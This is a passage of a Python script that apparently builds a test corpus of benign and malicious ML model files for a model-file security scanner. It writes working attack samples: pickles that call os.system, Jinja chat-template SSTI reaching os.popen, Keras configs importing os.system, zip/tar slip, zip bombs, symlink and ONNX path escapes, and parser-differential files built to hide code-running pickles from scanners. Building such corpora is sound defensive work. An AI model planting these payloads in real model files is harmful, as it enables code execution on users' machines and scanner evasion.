        "bzip2 around a pickle",
        "compressed wrappers",
    )
    c.bad(
        "w03", "model.pkl.xz", lzma.compress(payload), "xz around a pickle", "compressed wrappers"
    )
    c.bad(
        "w04",
        "model.tar",
        tar_bytes([("model/model.pkl", payload)]),
        "pickle inside a tar",
        "archives",
    )
    c.bad(
        "w05",
        "nested.zip",
        zip_bytes([("inner.zip", zip_bytes([("model.pkl", payload)]))]),
        "zip inside a zip",
        "archives",
    )
    c.bad(
        "w06",
        "model.7z",
        b"7z\xbc\xaf\x27\x1c\x00\x04" + payload,
        "7z archive (cannot be opened: must not pass as clean)",
        f"{PS} malicious1.7z",
    )
    bomb = zip_bytes([("weights.bin", bytes(100 << 20))], zipfile.ZIP_DEFLATED)
    c.bad("w07", "zip_bomb.zip", bomb, "zip bomb (1000:1)", "zip bombs")
    c.bad(
        "w08",
        "zip_slip.zip",
        zip_bytes([("../../.bashrc", b"echo hi\n")]),
        "zip member escapes the extraction folder",
        "zip slip",
    )
    c.bad(
        "w09",
        "tar_slip.tar",
        tar_bytes([("ok.txt", b"x")], links=[("model", "../../../etc")]),
        "tar symlink escapes the folder",
        "tar slip",
    )
    c.bad(
        "w10",
        "prepended.zip",
        payload + zip_bytes([("config.json", b"{}")]),
        "pickle prepended to a zip (loaders reading from the start run it)",
        "polyglot",
    )


def format_samples(c: Corpus) -> None:
    import h5py
    import numpy as np
    import onnx
    from onnx import TensorProto, helper

    header = json.dumps(
        {
            "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
            "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]},
        }
    ).encode()
    c.bad(
        "f01",
        "overlap.safetensors",
        struct.pack("<Q", len(header)) + header + bytes(24),
        "safetensors tensors overlap",
        "safetensors header checks",
    )
    c.bad(
        "f02",
        "huge_header.safetensors",
        struct.pack("<Q", 1 << 50) + b"{" + bytes(64),
        "safetensors header length 2^50",
        "huge headers",
    )
    header = json.dumps(
        {"a": {"dtype": "F32", "shape": [1024], "data_offsets": [0, 4096]}}
    ).encode()
    c.bad(
        "f03",
        "out_of_bounds.safetensors",
        struct.pack("<Q", len(header)) + header + bytes(16),
        "safetensors offsets past the data",
        "safetensors header checks",
    )
    ssti = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
    c.bad(
        "f04",
        "ssti_chat_template.gguf",
        gguf(
            [("general.architecture", 8, gstr("llama")), ("tokenizer.chat_template", 8, gstr(ssti))]
        ),
        "GGUF chat template reaching Python internals",
        "CVE-2024-34359",
    )
    c.bad(
        "f05",
        "ssti_built_name.gguf",
        gguf([("tokenizer.chat_template", 8, gstr("{{ x[('_'*2)~'class'~('_'*2)] }}"))]),
        "GGUF chat template building a dunder name from pieces",
        "SSTI filter bypass",
    )
    c.bad(
        "f06",
        "header_bomb.gguf",
        gguf([], kv_count=1 << 40),
        "GGUF metadata count 2^40",
        "huge headers",
    )
    c.bad(
        "f07",
        "tokenizer_config.json",
        json.dumps(
            {"chat_template": "{{ cycler.__init__.__globals__.os.popen('true').read() }}"}
        ).encode(),
        "tokenizer_config.json chat template SSTI",
        "Jinja SSTI",
    )

    def onnx_model(location: str | None) -> bytes:
        w = helper.make_tensor("W", TensorProto.FLOAT, [2, 2], [1.0, 0.0, 0.0, 1.0])
        if location is not None:
            w.ClearField("float_data")
            w.data_location = TensorProto.EXTERNAL
            for k, v in (("location", location), ("offset", "0"), ("length", "16")):
                e = w.external_data.add()
                e.key, e.value = k, v
        graph = helper.make_graph(
            [helper.make_node("MatMul", ["X", "W"], ["Y"])],
            "g",
            [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 2])],
            [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 2])],
            [w],
        )
        return helper.make_model(graph).SerializeToString()

    c.bad(
        "f08",
        "external_data_dotdot.onnx",
        onnx_model("../../../../etc/hostname"),
        "ONNX external data with ../",
        "anchors: ONNX external-data paths",
    )
    c.bad(
        "f09",
        "external_data_absolute.onnx",
        onnx_model("/etc/hostname"),
        "ONNX external data with an absolute path",
        "CVE-2024-27318 class",
    )

    def onnx_folder(path: Path) -> None:
        path.mkdir()
        model = onnx.load_from_string(onnx_model(None))
        for tensor in model.graph.initializer:
            tensor.raw_data = np.array(tensor.float_data, dtype="f4").tobytes()
            tensor.ClearField("float_data")
        onnx.save_model(
            model,
            str(path / "model.onnx"),
            save_as_external_data=True,
            all_tensors_to_one_file=True,
            location="weights.bin",
            size_threshold=0,
        )

    c.good("b21", "onnx_external_data", onnx_folder, "ONNX model with external data in its folder")
    c.good("b22", "model.onnx", onnx_model(None), "ONNX model with embedded weights")

    def keras_zip(config: dict[str, Any]) -> Callable[[Path], None]:
        def write(path: Path) -> None:
            weights = io.BytesIO()
            with h5py.File(weights, "w") as f:
                f.create_dataset("layers/dense/vars/0", data=np.ones((4, 2), dtype="f4"))
            with zipfile.ZipFile(path, "w") as zf:
                zf.writestr(
                    "metadata.json",
                    json.dumps({"keras_version": "3.6.0", "date_saved": "2024-01-01@00:00:00"}),
                )
                zf.writestr("config.json", json.dumps(config))
                zf.writestr("model.weights.h5", weights.getvalue())

        return write

    def layer(cls: str, module: str = "keras.layers", **cfg: Any) -> dict[str, Any]:
        return {
            "module": module,
            "class_name": cls,
            "config": {"name": cls.lower(), **cfg},
            "registered_name": None,
        }

    dense = layer(
        "Dense",
        units=2,
        activation={
            "module": "keras.activations",
            "class_name": "function",
            "config": "relu",
            "registered_name": None,
        },
        kernel_initializer=layer("GlorotUniform", "keras.initializers", seed=None),
    )
    lam = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "function": {
                "class_name": "__lambda__",
                "config": {
                    "value": [
                        "4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMEAAAAfABTACkBTqkAKQHaAXhyAQAAAHIBAAAA+gE8",
                        None,
                        None,
                    ]
                },
            },
        },
        "registered_name": None,
    }

    def sequential(*layers: dict[str, Any]) -> dict[str, Any]:
        return {
            "module": "keras",
            "class_name": "Sequential",
            "config": {
                "name": "sequential",
                "layers": [layer("InputLayer", batch_shape=[None, 4]), *layers],
            },
            "registered_name": None,
            "compile_config": {
                "optimizer": layer("Adam", "keras.optimizers", learning_rate=0.001),
                "loss": "mse",
            },
        }

    c.good("b23", "model.keras", keras_zip(sequential(dense)), "Keras 3 .keras Sequential/Dense")
    c.bad(
        "k01",
        "lambda.keras",
        keras_zip(sequential(dense, lam)),
        "Keras Lambda layer (marshalled bytecode)",
        f"{MS}/issues/44",
    )
    bad_config = json.dumps(sequential(dense, lam))
    c.bad(
        "d20",
        "no_metadata.keras",
        zip_bytes([("config.json", bad_config.encode())]),
        "a .keras zip without metadata.json (Keras loads config.json anyway)",
        "issue 12 (Keras)",
    )

    def keras_folder(path: Path) -> None:
        path.mkdir()
        (path / "config.json").write_text(bad_config)
        with h5py.File(path / "model.weights.h5", "w") as f:
            f.create_dataset("layers/dense/vars/0", data=np.ones((4, 2), dtype="f4"))

    c.bad(
        "d21",
        "keras_model_folder",
        keras_folder,
        "an unzipped Keras model folder (config.json with a Lambda layer)",
        "issue 12 (Keras)",
    )
    nested = layer("TimeDistributed", layer=sequential(lam))
    c.bad(
        "k02",
        "nested_lambda.keras",
        keras_zip(sequential(nested)),
        "Lambda nested in a wrapped inner model",
        f"{MS}/pull/351",
    )
    inject = dict(
        dense,
        config=dict(
            dense["config"],
            activation={
                "module": "os",
                "class_name": "function",
                "config": "system",
                "registered_name": None,
            },
        ),
    )
    c.bad(
        "k03",
        "module_injection.keras",
        keras_zip(sequential(inject)),
        "config imports os.system as an activation",
        "CVE-2025-1550",
    )
    getfile = layer(
        "Dense",
        units=2,
        kernel_initializer={
            "module": "keras.utils",
            "class_name": "function",
            "config": "get_file",
            "registered_name": None,
        },
    )
    c.bad(
        "k04",
        "get_file_gadget.keras",
        keras_zip(sequential(getfile)),
        "config reaches keras.utils.get_file (download/write)",
        "CVE-2025-8747",
    )

    def h5_model(config: dict[str, Any]) -> Callable[[Path], None]:
        def write(path: Path) -> None:
            with h5py.File(path, "w") as f:
                f.attrs["model_config"] = json.dumps(config)
                f.attrs["keras_version"] = "2.15.0"
                f.attrs["backend"] = "tensorflow"
                f.create_dataset("model_weights/dense/kernel", data=np.ones((4, 2), dtype="f4"))

        return write

    legacy_dense = {
        "class_name": "Dense",
        "config": {"name": "dense", "units": 2, "activation": "relu"},
    }
    legacy_lambda = {
        "class_name": "Lambda",
        "config": {
            "name": "l",
            "function": ["4wEAAAAAAAAA", None, None],
            "function_type": "lambda",
        },
    }
    write_op = {
        "class_name": "TFOpLambda",
        "config": {"name": "tf.io.write_file", "function": "io.write_file"},
    }
    c.good(
        "b24",
        "model.h5",
        h5_model({"class_name": "Sequential", "config": {"name": "s", "layers": [legacy_dense]}}),
        "Keras 2 HDF5 model",
    )
    c.bad(
        "k05",
        "lambda.h5",
        h5_model(
            {
                "class_name": "Sequential",
                "config": {"name": "s", "layers": [legacy_dense, legacy_lambda]},
            }
        ),
        "Keras 2 HDF5 with a Lambda layer",
        "Azure counterfit Keras Lambda PoC",
    )
    c.bad(
        "k06",
        "tfoplambda_write_file.h5",
        h5_model(
            {
                "class_name": "Functional",
                "config": {"name": "f", "layers": [legacy_dense, write_op]},
            }
        ),
        "TFOpLambda calling tf.io.write_file",
        "code-carrying Keras configs",
    )

    def pytables_object(path: Path) -> None:
        with h5py.File(path, "w") as f:
            ds = f.create_dataset(
                "frame/values", shape=(1,), dtype=h5py.vlen_dtype(np.dtype("uint8"))
            )
            ds[0] = np.frombuffer(evil(2), dtype=np.uint8)
            ds.attrs["PSEUDOATOM"] = "object"

    c.bad(
        "k07",
        "pytables_object.h5",
        pytables_object,
        "PyTables object array (pickled elements) in HDF5",
        "PyTables ObjectAtom",
    )
    meta = pb(
        1,
        pb(3, "root.layer-1")
        + pb(4, json.dumps({"class_name": "Lambda", "config": {"name": "l"}})),
    )
    c.bad(
        "k08",
        "keras_saved_model",
        folder_with("keras_metadata.pb", meta),
        "Lambda layer in a SavedModel's keras_metadata.pb",
        "Keras SavedModel metadata",
    )
    readfile = pb(1, 1) + pb(
        2,
        pb(
            2,
            pb(1, pb(1, "path") + pb(2, "Const"))
            + pb(1, pb(1, "leak") + pb(2, "ReadFile") + pb(3, "path")),
        ),
    )
    c.bad(
        "s01",
        "saved_model_readfile",
        folder_with("saved_model.pb", readfile),
        "SavedModel graph with ReadFile",
        "TF risky ops",
    )
    pyfunc = pb(1, 1) + pb(
        2,
        pb(
            2,
            pb(
                2,
                pb(
                    1, pb(1, pb(1, "__inference_serve_12")) + pb(3, pb(1, "call") + pb(2, "PyFunc"))
                ),
            ),
        ),
    )
    c.bad(
        "s02",
        "saved_model_pyfunc",
        folder_with("saved_model.pb", pyfunc),
        "SavedModel function with PyFunc",
        "TF risky ops",
    )
    saver = pb(1, 1) + pb(
        2,
        pb(
            2,
            pb(1, pb(1, "x") + pb(2, "MatMul"))
            + pb(
                2,
                pb(
                    1,
                    pb(1, pb(1, "__inference__traced_save_45"))
                    + pb(3, pb(1, "s") + pb(2, "SaveV2") + pb(3, "file_prefix")),
                ),
            ),
        ),
    )
    c.good(
        "b25",
        "saved_model",
        lambda p: (
            p.mkdir(),
            (p / "saved_model.pb").write_bytes(saver),
            (p / "variables").mkdir(),
            (p / "variables" / "variables.data-00000-of-00001").write_bytes(
                np.ones(4, "f4").tobytes()
            ),
        ),
        "SavedModel with MatMul and its saver function",
    )
    template = (
        "{% for m in messages %}{{ '<|im_start|>' + m['role'] + '\\n' + m['content']"
        " + '<|im_end|>\\n' }}{% endfor %}"
    )
    c.good(
        "b26",
        "llama.gguf",
        gguf(
            [
                ("general.architecture", 8, gstr("llama")),
                ("general.alignment", 4, struct.pack("<I", 32)),
                ("tokenizer.chat_template", 8, gstr(template)),
            ]
        ),
        "GGUF with a ChatML template",
    )

    def hf_folder(path: Path) -> None:
        from safetensors.numpy import save_file

        path.mkdir()
        save_file({"w": np.ones((2, 2), dtype="f4")}, str(path / "model.safetensors"))
        (path / "config.json").write_text(json.dumps({"model_type": "llama", "hidden_size": 2}))
        (path / "tokenizer_config.json").write_text(json.dumps({"chat_template": template}))
        (path / "README.md").write_text("# A model\n")

    c.good(
        "b27",
        "hf_model_folder",
        hf_folder,
        "Hugging Face style folder: safetensors, configs, template, README",
    )

    def tgz(path: Path) -> None:
        src = c.out / "benign" / "b27_hf_model_folder"
        with tarfile.open(path, "w:gz") as tf:
            tf.add(src, arcname="model")

    c.good("b28", "model.tar.gz", tgz, "tar.gz of a model folder")
    c.bad(
        "x01",
        "compiled.pyc",
        importlib.util.MAGIC_NUMBER
        + bytes(12)
        + marshal.dumps(compile("import os", "<x>", "exec")),
        "compiled Python bytecode in a model folder",
        "code in model repos",
    )
    c.bad(
        "x02",
        "libcustom_op.so",
        b"\x7fELF\x02\x01\x01" + bytes(57),
        "native library (custom op) in a model folder",
        "code in model repos",
    )

    def symlink_folder(path: Path) -> None:
        path.mkdir()
        (path / "config.json").write_text("{}")
        os.symlink("/etc/hostname", path / "weights.bin")

    c.bad(
        "x03",
        "symlink_escape",
        symlink_folder,
        "model folder with a symlink to a file outside it",
        "symlink escape",
    )


# -- parser differentials (issue 12): files read differently by the scanner and the loader --

LOOP_LOAD = "import pickle\nwith open(P, 'rb') as f:\n    while True:\n        pickle.load(f)"
"""Loads every pickle in a file until one fails (how many tools read concatenated streams)."""

TWIN_LOADERS: dict[str, str] = {}
"""For each differential sample, Python code (``P`` is the file) that makes the real loader
run the hidden part; the tests run it in a throwaway process with a marker payload."""


def call_p0(cmd: str) -> bytes:
    return call0("os", "system", cmd)


def torch_zip_with(data_pkl: bytes, root_case: str | None = None) -> bytes:
    """A real torch.save archive whose data.pkl is replaced."""
    import torch

    buf = io.BytesIO()
    torch.save(torch.zeros(2), buf)
    members = []
    for name, data in torch_zip_members(buf.getvalue()):
        if name.endswith("/data.pkl"):
            data = data_pkl
        if root_case is not None:
            name = root_case + name[len(root_case) :]
        members.append((name, data))
    return zip_bytes(members)


def frame_drop_pickle(cmd: str) -> bytes:
    """A FRAME that ends inside an argument: contiguous readers (``pickle.loads``, the
    scanner) see a string and a byte string; ``pickle.load`` on a BytesIO (torch's zip
    reader) drops the rest of the frame and reads the byte string's payload as opcodes."""
    evil = b"0" + call_p0(cmd) + b"."
    payload = b"?" + evil
    return (
        b"\x80\x04\x95"
        + struct.pack("<Q", 5)
        + b"\x8c\x10abc"
        + b"d" * 13
        + b"C"
        + bytes([len(payload)])
        + payload
        + b"0."
    )


def tar_header_pickle(cmd: str) -> bytes:
    """A valid tar whose first header's name field is a pickle."""
    name = call_p0(cmd) + b"."
    header = bytearray(512)
    header[: len(name)] = name
    header[100:108] = b"0000644\0"
    header[108:116] = b"0000000\0"
    header[116:124] = b"0000000\0"
    header[124:136] = b"00000000000\0"
    header[136:148] = b"00000000000\0"
    header[156:157] = b"0"
    header[257:263] = b"ustar\0"
    header[263:265] = b"00"
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    return bytes(header) + bytes(1024)


def pax_size_tar(cmd: str) -> bytes:
    """A PAX ``size`` record that tarfile honours over the header's size field."""
    inner = pickle.dumps(Reduce(os.system, cmd), protocol=2)
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        info = tarfile.TarInfo("model.pkl")
        info.size = len(inner)
        info.pax_headers = {"size": str(len(inner))}
        tf.addfile(info, io.BytesIO(inner))
    data = bytearray(buf.getvalue())
    # the ustar header of model.pkl says 0 bytes; only the PAX record gives the size
    pos = data.find(b"model.pkl")
    data[pos + 124 : pos + 136] = b"00000000000\0"
    data[pos + 148 : pos + 156] = b" " * 8
    data[pos + 148 : pos + 156] = b"%06o\0 " % sum(data[pos : pos + 512])
    return bytes(data)


def torchscript_from_file(marker: str) -> Callable[[Path], None]:
    """A scripted module whose forward maps (and creates) a file: torch.from_file."""

    def write(path: Path) -> None:
        import torch

        source = (
            "import torch\n"
            "class Evil(torch.nn.Module):\n"
            "    def forward(self, x):\n"
            f"        return x + torch.from_file({marker!r}, True, 4).sum()\n"
        )
        namespace: dict[str, Any] = {}
        module_file = path.with_suffix(".src.py")
        module_file.write_text(source)
        try:
            exec(compile(source, str(module_file), "exec"), namespace)  # our own source
            torch.jit.script(namespace["Evil"]()).save(str(path))
        finally:
            module_file.unlink()

    return write


def template_samples(c: Corpus) -> None:
    """Chat templates and remote code that the scanner read as plain text (issue 12)."""
    subscript = (
        "{% set n = ('x'|replace('x', '_'))*2 ~ 'cla' ~ 'ss' ~ '_'*2 %}"
        "{% set m = n|reverse|reverse %}{{ messages[m] }}"
    )
    c.bad(
        "d17",
        "tokenizer_config.json",
        b"  \n" + json.dumps({"chat\\u005ftemplate": subscript}).encode().replace(b"\\\\", b"\\"),
        "tokenizer_config.json with leading whitespace, an escaped key, a variable subscript",
        "issue 12 (templates)",
    )
    c.bad(
        "d18",
        "chat_template.jinja",
        b"{{ messages.__class__.__mro__ }}",
        "chat_template.jinja next to a tokenizer (read by transformers)",
        "issue 12 (templates)",
    )

    def remote_code(path: Path) -> None:
        path.mkdir()
        (path / "config.json").write_text(json.dumps({"auto_map": {"AutoModel": "modeling.M"}}))
        (path / "modeling.py").write_text("import os\nos.system('true')\n")

    c.bad(
        "d19",
        "remote_code",
        remote_code,
        "modeling.py named by auto_map (trust_remote_code runs it)",
        "issue 12 (code files)",
    )


def real_benign_samples(c: Corpus) -> None:
    """Objects saved by the libraries themselves, in every format they offer (issue 12)."""
    import numpy as np
    import pandas as pd
    import torch

    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 1))
    opt = torch.optim.Adam(model.parameters())
    model(torch.randn(2, 4)).sum().backward()
    opt.step()

    def save(obj: Any, **kw: Any) -> Callable[[Path], None]:
        return lambda p: torch.save(obj, p, **kw)

    c.good(
        "b29",
        "full_model_legacy.pt",
        save(model, _use_new_zipfile_serialization=False),
        "full model, pre-1.6 torch format (module classes as persistent ids)",
    )
    c.good("b30", "optimizer_state.pt", save(opt.state_dict()), "Adam optimizer state")
    c.good(
        "b31",
        "scripted.pt",
        lambda p: torch.jit.script(model).save(str(p)),
        "TorchScript (torch.jit.script)",
    )
    c.good(
        "b32",
        "traced.pt",
        lambda p: torch.jit.trace(model, torch.randn(1, 4)).save(str(p)),
        "TorchScript (torch.jit.trace)",
    )
    c.good("b33", "parameter.pt", save(torch.nn.Parameter(torch.ones(3))), "a Parameter")
    frame = pd.DataFrame({"a": [1, 2], "b": ["x", "y"]})
    if importlib.util.find_spec("tables") is not None:
        c.good(
            "b34",
            "frame_fixed.h5",
            lambda p: frame.to_hdf(p, key="df", mode="w"),
            "pandas HDF5 store (fixed format)",
        )
        c.good(
            "b35",
            "frame_table.h5",
            lambda p: frame.to_hdf(p, key="df", mode="w", format="table"),
            "pandas HDF5 store (table format)",
        )
    c.good("b36", "rng.pkl", pickle.dumps(np.random.default_rng(1)), "numpy Generator")
    c.good("b37", "random_state.pkl", pickle.dumps(np.random.RandomState(1)), "numpy RandomState")
    if importlib.util.find_spec("xgboost") is not None:
        import xgboost

        x = np.random.default_rng(0).normal(size=(40, 3))
        y = (x[:, 0] > 0).astype(int)
        booster = xgboost.XGBClassifier(n_estimators=2, max_depth=2).fit(x, y)
        c.good("b38", "xgb.ubj", lambda p: booster.save_model(p), "XGBoost UBJSON model")


def tensorflow_differential_samples(c: Corpus) -> None:
    """TensorFlow is not installed here: these have no twin (the ops are documented)."""
    fixed_path_saver = pb(1, 1) + pb(
        2,
        pb(
            2,
            pb(
                2,
                pb(
                    1,
                    pb(1, pb(1, "__inference__traced_save_7"))
                    + pb(3, pb(1, "path") + pb(2, "Const"))
                    + pb(3, pb(1, "save/s") + pb(2, "SaveV2") + pb(3, "path:output:0")),
                ),
            ),
        ),
    )
    c.bad(
        "d13",
        "saver_named_writer",
        folder_with("saved_model.pb", fixed_path_saver),
        "SaveV2 to a constant path inside a function named like the saver",
        "issue 12 (TF saver exemption by name)",
    )
    pbtxt = (
        "saved_model_schema_version: 1\nmeta_graphs {\n  graph_def {\n"
        '    node { name: "p" op: "Const" }\n'
        '    node { name: "leak" op: "ReadFile" input: "p" }\n  }\n}\n'
    )
    c.bad(
        "d14",
        "saved_model_text",
        folder_with("saved_model.pbtxt", pbtxt.encode()),
        "saved_model.pbtxt (text form) with ReadFile",
        "issue 12 (pbtxt not parsed)",
    )
    listing = pb(1, 1) + pb(
        2, pb(2, pb(1, pb(1, "files") + pb(2, "MatchingFilesDataset") + pb(3, "pattern")))
    )
    c.bad(
        "d15",
        "saved_model_list_files",
        folder_with("saved_model.pb", listing),
        "SavedModel graph listing files (MatchingFilesDataset)",
        "issue 12 (file-listing dataset ops)",
    )


def differential_samples(c: Corpus, cmd: str = CMD) -> None:
    def add(sid: str, name: str, data: bytes, technique: str, loader: str) -> None:
        c.bad(sid, name, data, technique, "issue 12 (parser differential)")
        TWIN_LOADERS[sid] = loader

    plain = "import pickle\npickle.load(open(P, 'rb'))"
    add(
        "d01",
        "int_leading_zero.pkl",
        b"I010\n0" + call_p0(cmd) + b".",
        "INT with a leading zero (strtol octal) makes the analysis call the file text",
        plain,
    )
    add(
        "d02",
        "float_nul_trailing.pkl",
        b"N.F1.5\0x\n0" + call_p0(cmd) + b".",
        "second stream starts with a FLOAT holding a NUL (C accepts it): 'inert trailing data'",
        LOOP_LOAD,
    )
    add(
        "d03",
        "long_line_trailing.pkl",
        b"N.S'" + b"a" * ((1 << 20) + 16) + b"'\n0" + call_p0(cmd) + b".",
        "second stream starts with a text argument longer than the analysis reads",
        LOOP_LOAD,
    )
    add(
        "d04",
        "frame_drop.pt",
        torch_zip_with(frame_drop_pickle(cmd)),
        "torch data.pkl whose FRAME ends inside an argument (BytesIO drops the rest)",
        "import torch\ntorch.load(P, weights_only=False)",
    )
    add(
        "d05",
        "gif_pickle.gif",
        b"GIF89a\0\0" + b"0" + call_p0(cmd) + b".",
        "GIF header that is also a pickle (BINFLOAT, POP, ...)",
        plain,
    )
    add(
        "d06",
        "tar_header_pickle.tar",
        tar_header_pickle(cmd),
        "tar whose first member name is a pickle",
        plain,
    )
    gz = gzip.compress(b"just text\n")
    add(
        "d07",
        "gzip_zip_trailer.gz",
        gz + zip_bytes([("model.pkl", pickle.dumps(Reduce(os.system, cmd), protocol=2))]),
        "gzip file with a zip archive appended (zipfile finds it by its end record)",
        "import pickle, zipfile\npickle.load(zipfile.ZipFile(P).open('model.pkl'))",
    )
    header = "{'descr': 'object', 'fortran_order': False, 'shape': (1,), }"
    raw = header.encode().ljust(118) + b"\n"
    object_npy = (
        b"\x93NUMPY\x01\x00"
        + struct.pack("<H", len(raw))
        + raw
        + pickle.dumps([Reduce(os.system, cmd)], protocol=2)
    )
    add(
        "d08",
        "object_dtype_name.npy",
        object_npy,
        "npy dtype spelled 'object' (numpy accepts it): an object array",
        "import numpy as np\nnp.load(P, allow_pickle=True)",
    )
    add(
        "d09",
        "member_slash.npz",
        zip_bytes([("arr.npy/", object_npy)]),
        "npz member whose name ends in '/' (np.load still reads it)",
        "import numpy as np\nnp.load(P, allow_pickle=True)['arr.npy/']",
    )
    marker = cmd.split(" ", 1)[1] if cmd.startswith("touch ") else "scan-corpus-marker"
    c.bad(
        "d16",
        "torchscript_from_file.pt",
        torchscript_from_file(marker),
        "TorchScript code that maps a file (torch.from_file) when called",
        "issue 12 (TorchScript)",
    )
    TWIN_LOADERS["d16"] = "import torch\ntorch.jit.load(P)(torch.zeros(1))"
    add(
        "d10",
        "pax_size.tar",
        pax_size_tar(cmd),
        "tar member whose size only a PAX record gives (tarfile honours it)",
        "import pickle, tarfile\npickle.load(tarfile.open(P).extractfile('model.pkl'))",
    )
    inner = torch_zip_with(pickle.dumps(Reduce(os.system, cmd), protocol=2))
    PAD = sb(bytes(70_000))  # keeps the inner archive's end record out of zipfile's search
    add(
        "d11",
        "rebuild_from_type_value.pkl",
        b"\x80\x02"
        + g("torch._tensor", "_rebuild_from_type_v2")
        + b"("
        + g("torch.storage", "_load_from_bytes")
        + g("torch.nn.parameter", "Parameter")
        + sb(inner)
        + b"\x85}tR"
        + PAD
        + b"\x86.",
        "a loader passed as a value to _rebuild_from_type_v2, which calls it",
        plain,
    )
    add(
        "d12",
        "generator_ctor_value.pkl",
        b"\x80\x02"
        + g("numpy.random._pickle", "__generator_ctor")
        + sb(inner)
        + g("torch.storage", "_load_from_bytes")
        + b"\x86R"
        + PAD
        + b"\x86.",
        "a loader passed as numpy's bit-generator constructor, which the ctor calls",
        plain,
    )


KERAS_SAMPLES = Path(__file__).with_name("keras_scan_samples.py")


def keras_built_samples(c: Corpus, cmd: str = CMD) -> None:
    """Models saved by Keras 3 itself (torch backend), built in a fresh process: benign
    models, Lambda layers carrying ``cmd``, and configs edited the way attackers edit them."""
    with tempfile.TemporaryDirectory() as tmp:
        done = subprocess.run(
            [sys.executable, str(KERAS_SAMPLES), "build", f"{tmp}/m", cmd],
            env={**os.environ, "KERAS_BACKEND": "torch"},
            capture_output=True,
            text=True,
            timeout=600,
            check=False,
        )
        if done.returncode != 0:
            raise RuntimeError(f"building the Keras samples failed: {done.stderr[-2000:]}")
        for s in json.loads(done.stdout.strip().splitlines()[-1]):
            built = Path(tmp) / "m" / s["path"]
            c.add(
                s["expect"],
                s["id"],
                s["path"],
                lambda path, built=built: shutil.move(built, path),
                f"Keras-built: {s['technique']}",
                s.get("reference", ""),
            )


def build(out: Path) -> list[Sample]:
    """Write the corpus under ``out`` and return its manifest."""
    warnings.filterwarnings("ignore")
    corpus = Corpus(out)
    pickle_samples(corpus)
    torch_samples(corpus)
    sklearn_samples(corpus)
    wrapper_samples(corpus)
    format_samples(corpus)
    differential_samples(corpus)
    real_benign_samples(corpus)
    template_samples(corpus)
    tensorflow_differential_samples(corpus)
    keras_built_samples(corpus)
    (out / "manifest.json").write_text(json.dumps([asdict(s) for s in corpus.samples], indent=1))
    return corpus.samples


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "tests/.corpus")
    if target.exists() and any(target.iterdir()):
        sys.exit(f"{target}: not empty; remove it first")
    samples = build(target)
    bad = sum(s.expect == "malicious" for s in samples)
    print(f"{target}: {bad} malicious, {len(samples) - bad} benign samples")
